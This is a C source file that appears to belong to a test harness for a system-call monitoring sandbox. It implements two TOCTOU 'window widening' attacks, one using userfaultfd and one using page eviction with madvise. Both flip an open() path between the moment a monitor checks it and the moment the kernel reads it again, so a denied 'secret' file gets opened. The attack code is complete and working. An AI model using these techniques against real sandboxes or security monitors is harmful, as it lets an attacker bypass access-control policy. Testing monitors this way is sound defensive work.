/* atk_widen.c: window widening: the open() path lies across a page boundary and its first
 * page faults when the kernel copies the path again (userfaultfd, else a dropped file page). */
/*
 * The path is "dir/" at the end of page 1 and the name ("public" or
 * "secret") at the start of page 2.  A racer thread keeps page 1 away
 * (dropped with MADV_DONTNEED whenever mincore(2) shows it back), so that
 * each copy of the path, the monitor's and the kernel's second one, stalls
 * on page 1 before it reaches the name:
 *
 * widen-uffd: page 1 is registered with userfaultfd (missing mode), and
 * its fault handler decides what the copy will find in page 2: the
 * permitted name for a fault by another process (the monitor copying the
 * path), the secret's name for a fault by our own thread (the kernel
 * copying the path again for the system call).  Whenever page 1 was
 * dropped between the two copies, the monitor that let the kernel copy
 * again loses.  Where userfaultfd is refused (policyctl run refuses it, so
 * that a target cannot stall the supervisor), the attack is widen-madvise
 * and says so in its mode.
 *
 * widen-madvise (Watson's widening of wrapper races): page 1 is a private
 * mapping of a file, dropped and evicted from the page cache
 * (POSIX_FADV_DONTNEED), so a copy takes a major fault (a disk read, 100
 * to 300 microseconds here) before it reaches page 2, while the racer
 * flips the name there between the permitted one and the secret's.
 *
 * A monitor that copies the path once decides on its copy and acts on it.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "toctou.h"

#define PAGE		4096

struct widen {
	char		*pages;		/* page 1 (faulting) + page 2 (name) */
	char		*path;
	int		fd;		/* madvise: the file behind page 1 */
	int		uffd;		/* userfaultfd, or -1 */
	pid_t		self;		/* the attacking thread */
	atomic_int	stop;
	_Atomic double	served_at;	/* uffd: last fault served */
	char		*prefix;	/* uffd: the content of page 1 */
};

static void
widen_policy(const char *dir, FILE *out)
{
	fprintf(out, "  - open: filename eq \"%s/secret\" then deny[EACCES]\n",
	    dir);
}

static void
widen_setup(const char *dir)
{
	char p[PATH_MAX];

	put_file(pjoin(p, dir, "public"), PUBLIC_TEXT, 0644);
	put_file(pjoin(p, dir, "secret"), SECRET_TEXT, 0644);
}

static void
drop_page1(struct widen *w)
{
	(void)madvise(w->pages, PAGE, MADV_DONTNEED);
	if (w->fd >= 0)
		(void)posix_fadvise(w->fd, 0, PAGE, POSIX_FADV_DONTNEED);
}

/* Is page 1 there (so that the next read would not fault)? */
static int
page1_present(struct widen *w)
{
	unsigned char v = 0;

	return mincore(w->pages, PAGE, &v) == 0 && (v & 1);
}

static void
write_name(struct widen *w, const char *name)
{
	flip_bytes(w->pages + PAGE, name, 6);
}

/* The racer: keep page 1 away; madvise: also flip the name.  After a
 * uffd fault is served the page is left for a microsecond, or the reader
 * would fault again and again before it could take it. */
static void
race(void *arg, unsigned phase)
{
	struct widen *w = arg;

	(void)phase;
	if (w->uffd >= 0 && now() - atomic_load(&w->served_at) < 1e-6)
		return;
	if (page1_present(w))
		drop_page1(w);
}

/* madvise: a second racer flips the name (the first may block in the
 * eviction for as long as a disk read takes). */
static void
flip_name(void *arg, unsigned phase)
{
	write_name(arg, phase ? "public" : "secret");
}

/* userfaultfd: serve page 1, with page 2 holding the name the reader
 * should find: the secret's for our own thread (the kernel's second
 * copy), the permitted one for anyone else (the monitor). */
static void *
uffd_handler(void *arg)
{
	struct widen *w = arg;

	while (!atomic_load(&w->stop)) {
		struct pollfd pfd = { w->uffd, POLLIN, 0 };
		struct uffd_msg msg;
		struct uffdio_copy cp;

		if (poll(&pfd, 1, 50) <= 0 ||
		    read(w->uffd, &msg, sizeof(msg)) != (ssize_t)sizeof(msg) ||
		    msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		write_name(w, (pid_t)msg.arg.pagefault.feat.ptid == w->self ?
		    "secret" : "public");
		memset(&cp, 0, sizeof(cp));
		cp.dst = (uintptr_t)w->pages;
		cp.src = (uintptr_t)w->prefix;
		cp.len = PAGE;
		(void)ioctl(w->uffd, UFFDIO_COPY, &cp);
		atomic_store(&w->served_at, now());
	}
	return NULL;
}

/* Lay out the two pages; page 1 from a file (madvise) or registered with
 * userfaultfd. */
static void
widen_map(struct widen *w, const char *dir)
{
	char p[PATH_MAX];
	size_t plen = strlen(dir) + 1;

	w->prefix = calloc(1, PAGE);
	w->pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (w->prefix == NULL || w->pages == MAP_FAILED)
		die("mmap: %s", strerror(errno));
	memcpy(w->prefix + PAGE - plen, dir, plen - 1);
	w->prefix[PAGE - 1] = '/';
	w->path = w->pages + PAGE - plen;
	memcpy(w->pages + PAGE, "public", 7);
	if (w->uffd >= 0) {
		struct uffdio_register reg;

		memset(&reg, 0, sizeof(reg));
		reg.range.start = (uintptr_t)w->pages;
		reg.range.len = PAGE;
		reg.mode = UFFDIO_REGISTER_MODE_MISSING;
		if (ioctl(w->uffd, UFFDIO_REGISTER, &reg) != 0)
			die("UFFDIO_REGISTER: %s", strerror(errno));
		return;
	}
	pjoin(p, dir, "page1");
	(void)unlink(p);
	if ((w->fd = open(p, O_RDWR | O_CREAT | O_CLOEXEC, 0644)) < 0 ||
	    write(w->fd, w->prefix, PAGE) != PAGE || fsync(w->fd) != 0)
		die("%s: %s", p, strerror(errno));
	if (mmap(w->pages, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED, w->fd,
	    0) == MAP_FAILED)
		die("mmap %s: %s", p, strerror(errno));
	(void)unlink(p);
}

static void
widen_attack(const char *dir, long n, struct atk_result *r, int use_uffd)
{
	struct widen w;
	struct flipper f, g;
	pthread_t hth;
	long i;
	int e;

	memset(&w, 0, sizeof(w));
	w.fd = w.uffd = -1;
	r->mode = "madvise";
	if (use_uffd) {
		struct uffdio_api api = { .api = UFFD_API,
		    .features = UFFD_FEATURE_THREAD_ID };

		w.uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
		if (w.uffd < 0)
			/* refused (policyctl run does) or unavailable */
			r->mode = errno == EPERM ? "madvise(uffd-refused)" :
			    "madvise(no-uffd)";
		else if (ioctl(w.uffd, UFFDIO_API, &api) != 0)
			die("UFFDIO_API: %s", strerror(errno));
		else
			r->mode = "userfaultfd";
	}
	widen_map(&w, dir);
	w.self = (pid_t)syscall(SYS_gettid);
	atomic_store(&w.stop, 0);
	atomic_store(&w.served_at, 0);
	if (w.uffd >= 0 &&
	    (e = pthread_create(&hth, NULL, uffd_handler, &w)) != 0)
		die("pthread_create: %s", strerror(e));
	flip_start(&f, race, &w);
	if (w.uffd < 0)
		flip_start_placed(&g, flip_name, &w, 0);
	for (i = 0; i < n; i++)
		score_open(r, open(w.path, O_RDONLY | O_CLOEXEC));
	flip_stop(&f);
	if (w.uffd < 0)
		flip_stop(&g);
	atomic_store(&w.stop, 1);
	if (w.uffd >= 0) {
		pthread_join(hth, NULL);
		close(w.uffd);
	}
	if (w.fd >= 0)
		close(w.fd);
	munmap(w.pages, 2 * PAGE);
	free(w.prefix);
}

static void uffd_run(const char *d, long n, struct atk_result *r) { widen_attack(d, n, r, 1); }
static void madvise_run(const char *d, long n, struct atk_result *r) { widen_attack(d, n, r, 0); }

static const struct atk_class classes[] = {
	{ "widen-uffd", widen_policy, widen_setup, uffd_run },
	{ "widen-madvise", widen_policy, widen_setup, madvise_run },
};

int
main(int argc, char **argv)
{
	return atk_main(argc, argv, classes, sizeof(classes) / sizeof(classes[0]));
}
